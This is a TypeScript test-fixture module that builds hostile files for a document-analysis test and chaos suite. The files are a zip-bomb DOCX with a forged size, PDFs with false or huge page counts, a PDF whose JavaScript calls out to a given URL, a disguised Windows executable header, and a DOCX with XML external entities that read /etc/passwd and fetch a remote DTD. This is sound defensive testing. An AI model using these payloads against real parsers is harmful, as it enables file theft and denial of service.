// Hostile documents for the analysis tests and the chaos suite (chaos/scenarios/hostile-documents.ts): the same
// bombs and tricks in both places. Plain TypeScript that Node runs as it is (erasable syntax, .ts imports).
import { strToU8, zipSync } from 'fflate';
import { makePdf, textLines } from './make-pdf.ts';

const MB = 1024 * 1024;

/** A DOCX-looking ZIP whose document.xml inflates to `inflatedMb` of zeros, declaring `declaredSize` bytes. */
export const zipBomb = (inflatedMb: number, declaredSize?: number): Uint8Array => {
  const xml = new Uint8Array(inflatedMb * MB);
  const zip = zipSync({ 'word/document.xml': [xml, { level: 9 }] });
  if (declaredSize !== undefined) {
    // Lie about the uncompressed size in the central directory (and the local header).
    const dv = new DataView(zip.buffer, zip.byteOffset, zip.byteLength);
    for (let at = 0; at + 4 <= zip.length; at += 1) {
      const signature = dv.getUint32(at, true);
      if (signature === 0x02014b50) dv.setUint32(at + 24, declaredSize, true);
      if (signature === 0x04034b50) dv.setUint32(at + 22, declaredSize, true);
    }
  }
  return zip;
};

/** A one-page PDF whose page tree claims `claimed` pages in its /Count (its cross-reference table is right). */
export const lyingPageCountPdf = (claimed: number): string =>
  makePdf([textLines(4)], (objects) =>
    objects.with(1, objects[1]?.replace('/Count 1 >>', `/Count ${claimed} >>`) ?? ''),
  );

/**
 * A PDF that really has `pages` pages (each a distinct page object drawing the same 8 words, under intermediate
 * nodes of 1,000): about 110 bytes a page.
 */
export const manyPagesPdf = (pages: number): string =>
  makePdf([textLines(4)], (objects) => {
    const nodes = Math.ceil(pages / 1000);
    const firstNode = objects.length + 1;
    const firstPage = firstNode + nodes;
    const pageIds = (node: number) =>
      Array.from({ length: Math.min(1000, pages - node * 1000) }, (_, i) => firstPage + node * 1000 + i);
    const nodeObjects = Array.from(
      { length: nodes },
      (_, node) =>
        `<< /Type /Pages /Parent 2 0 R /Kids [${pageIds(node)
          .map((id) => `${id} 0 R`)
          .join(' ')}] /Count ${pageIds(node).length} >>`,
    );
    const pageObjects = Array.from({ length: nodes }, (_, node) =>
      pageIds(node).map(
        () =>
          `<< /Type /Page /Parent ${firstNode + node} 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 3 0 R >> >> /Contents 5 0 R >>`,
      ),
    ).flat();
    const kids = nodeObjects.map((_, node) => `${firstNode + node} 0 R`).join(' ');
    return [
      objects[0] ?? '',
      `<< /Type /Pages /Kids [${kids}] /Count ${pages} >>`,
      objects[2] ?? '',
      // The original page, left out of the tree.
      'null',
      objects[4] ?? '',
      ...nodeObjects,
      ...pageObjects,
    ];
  });

/**
 * A one-page PDF that runs JavaScript when opened and closed, and submits a form, all to `url`: a reader that
 * executed any of it would be seen by a listener there.
 */
export const javaScriptPdf = (url: string): string =>
  makePdf([textLines(4)], (objects) =>
    objects.with(
      0,
      `<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.launchURL\\("${url}/js", true\\); this.submitForm\\("${url}/submit"\\);) /Next << /S /SubmitForm /F << /FS /URL /F (${url}/action) >> >> >> /AA << /WC << /S /JavaScript /JS (app.launchURL\\("${url}/close"\\);) >> >> >>`,
    ),
  );

/** The head of a Windows executable (MZ header, PE signature), padded: what an .exe renamed to anything starts with. */
export const windowsExecutable = (): Uint8Array => {
  const bytes = new Uint8Array(4096);
  bytes.set(strToU8('MZ'), 0);
  new DataView(bytes.buffer).setUint32(0x3c, 0x80, true);
  bytes.set(strToU8('PE\0\0'), 0x80);
  bytes.set(strToU8('This program cannot be run in DOS mode.'), 0x4e);
  return bytes;
};

/** A 1×1 PNG. */
export const tinyPng = (): Uint8Array =>
  Buffer.from(
    'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==',
    'base64',
  );

/**
 * A DOCX whose document.xml declares external entities (a file on the server and a URL at `url`) and uses them in
 * its text: a parser that resolved them would leak the file into the count or call the URL.
 */
export const externalEntityDocx = (url: string): Uint8Array => {
  const document = `<?xml version="1.0" encoding="UTF-8" standalone="no"?>
<!DOCTYPE w:document [
  <!ENTITY secret SYSTEM "file:///etc/passwd">
  <!ENTITY remote SYSTEM "${url}/entity">
  <!ENTITY % parameter SYSTEM "${url}/dtd">
  %parameter;
]>
<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">
<w:body><w:p><w:r><w:t>Contract between the parties &secret; &remote;</w:t></w:r></w:p></w:body>
</w:document>`;
  return zipSync({
    '[Content_Types].xml': strToU8(`<?xml version="1.0" encoding="UTF-8"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`),
    '_rels/.rels': strToU8(`<?xml version="1.0" encoding="UTF-8"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>`),
    'word/document.xml': strToU8(document),
  });
};
